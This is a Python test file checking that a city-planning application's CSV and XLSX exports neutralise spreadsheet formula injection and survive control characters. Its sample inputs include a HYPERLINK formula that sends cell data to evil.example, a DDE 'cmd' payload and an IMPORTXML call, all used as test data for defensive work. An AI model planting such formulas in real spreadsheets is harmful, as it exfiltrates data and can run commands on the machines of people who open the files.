"""Spreadsheet-safe exports: a source that looks like a formula is never a live formula.

Every CSV and XLSX citystrat writes (the export command, the public data.csv/data.xlsx,
the report XLSX, the audit export) is checked with the same hostile texts; control
characters in a source never crash an XLSX.
"""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from citystrat.exchange.readers import read_records
from citystrat.exchange.services import observations_import
from citystrat.observations.models import Observation
from citystrat.safecells import arithmetic_formula

# Reaches the database through a subprocess or the connection itself: runs on PostgreSQL too.
pytestmark = pytest.mark.reaches_database

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


def _approved(code: str) -> list[Observation]:
    return list(
        Observation.objects.filter(indicator__code=code, status="approved").order_by("period_start")
    )


@pytest.fixture
def formulas(builtin_plan: Any) -> Observation:
    """An approved value of M1-1 whose source and note are formulas."""
    first = _approved("M1-1")[0]
    first.source = {"ja": HOSTILE, "en": HOSTILE}
    first.note = {"ja": OTHERS[0], "en": OTHERS[2]}
    first.save(update_fields=["source", "note"])
    return first


@pytest.fixture
def hostile(formulas: Observation) -> Observation:
    """Also one whose source has control characters (stored before the door refused them)."""
    second = _approved("M1-1")[1]
    second.source = {"ja": "統計\x01課\x1b", "en": "Statistics\x07 office"}
    second.save(update_fields=["source"])
    return formulas


def formulas_in(xlsx: bytes) -> list[str]:
    """The <f> elements of every sheet: there must be none."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                text = archive.read(name).decode()
                if "<f>" in text or "<f " in text:
                    found.append(name)
    return found


def formula_texts(xlsx: bytes) -> list[str]:
    """The text of every <f> element of every sheet."""
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                text = archive.read(name).decode()
                found += [html.unescape(f) for f in re.findall(r"<f>(.*?)</f>", text)]
    return found


def all_texts(xlsx: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(xlsx))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]


def test_export_csv_neutralises_formulas_and_reimports_unchanged(
    formulas: Any, coordinator: Any, tmp_path: Path
) -> None:
    out = tmp_path / "export.csv"
    call_command("export", "--format", "csv", "-o", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    cells = [v for row in rows for v in row.values()]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells
    assert "'" + OTHERS[0] in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    # numbers stay numbers
    assert all(row["value"][:1] != "'" for row in rows)
    result = observations_import(
        actor=coordinator,
        rows=read_records(out),
        approve=True,
        filename="export.csv",
        channel="cli",
        dry_run=True,
    )
    assert result.ok, result.problems
    assert result.added == result.changed == 0


def test_export_xlsx_writes_texts_as_texts(hostile: Any, tmp_path: Path) -> None:
    out = tmp_path / "export.xlsx"
    call_command("export", "--format", "xlsx", "-o", str(out))
    data = out.read_bytes()
    assert formulas_in(data) == []
    cells = all_texts(data)
    hostile_cells = [c for c in cells if c.value == HOSTILE]
    assert hostile_cells
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile_cells)
    assert any(c.value == "統計\ufffd課\ufffd" for c in cells)


def test_public_data_csv_neutralises_formulas(hostile: Any, client: Any) -> None:
    response = client.get("/en/indicators/M1-1/data.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells


def test_public_data_xlsx_has_no_live_formula_and_survives_control_characters(
    hostile: Any, client: Any
) -> None:
    response = client.get("/en/indicators/M1-1/data.xlsx")
    assert response.status_code == 200
    data = response.content
    assert formulas_in(data) == []
    hostile_cells = [c for c in all_texts(data) if c.value == HOSTILE]
    assert hostile_cells
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile_cells)


def test_report_xlsx_has_no_live_formula_and_control_characters_do_not_crash(
    hostile: Any, tmp_path: Path
) -> None:
    out = tmp_path / "report.xlsx"
    call_command(
        "report",
        "--kind",
        "annual",
        "--as-of",
        "2025-03-31",
        "--lang",
        "en",
        "--format",
        "xlsx",
        "-o",
        str(out),
    )
    data = out.read_bytes()
    # the report's own formulas (achievement rates, totals) are arithmetic over its cells
    assert all(arithmetic_formula("=" + f) for f in formula_texts(data)), formula_texts(data)
    texts = [c for c in all_texts(data) if isinstance(c.value, str)]
    hostile_cells = [c for c in texts if HOSTILE in c.value]
    assert hostile_cells, "the report lists the value's source"
    assert all(c.data_type == "s" for c in hostile_cells)


def test_audit_export_neutralises_formulas(hostile: Any, tmp_path: Path) -> None:
    from citystrat.audit.services import audit_record

    audit_record(
        code="test.formula",
        actor=None,
        object_type="plans.plan",
        object_id=1,
        object_label=HOSTILE,
        reason=OTHERS[3],
        source="-2+3",
        channel="cli",
    )
    out = tmp_path / "audit.csv"
    call_command("audit", "export", "-o", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    row = rows[-1]
    assert row["object_label"] == "'" + HOSTILE
    assert row["reason"] == "'" + OTHERS[3]
    assert row["source"] == "'-2+3"


@pytest.mark.parametrize("text", [HOSTILE, *OTHERS, "'=A1", "''@x"])
def test_every_neutralised_text_reads_back_as_it_was(
    builtin_plan: Any, coordinator: Any, text: str
) -> None:
    """A source written by the export (with its apostrophe) imports as the original text."""
    from citystrat.safecells import csv_text

    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [["indicator", "period", "value", "source"], ["M2-2", "FY2022", "-0", csv_text(text)]]
    )
    [record] = list(read_records(io.BytesIO(buffer.getvalue().encode()), filename="x.csv"))
    assert record.source == {"": text.strip()}
    assert record.value == "-0"


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("=SUM(C4:C9)", True),
        ('=IF(OR(D5="",C5="",B5="",C5=B5),"",(D5-B5)/(C5-B5))', True),
        (HOSTILE, False),
        ("=cmd|' /C calc'!A0", False),
        ("=Sheet2!A1", False),
        ('=A1&"x"', False),
        ("=WEBSERVICE(A1)", False),
        ('=IMPORTXML("http://evil.example","//a")', False),
        ("+SUM(A1)", False),
    ],
)
def test_only_a_reports_own_arithmetic_stays_a_formula(text: str, kept: bool) -> None:
    """The report XLSX keeps its achievement-rate and total formulas; nothing else."""
    from openpyxl import Workbook

    from citystrat.safecells import arithmetic_formula, xlsx_workbook

    assert arithmetic_formula(text) is kept
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = text
    xlsx_workbook(book, keep_arithmetic=True)
    assert (sheet["A1"].data_type == "f") is kept
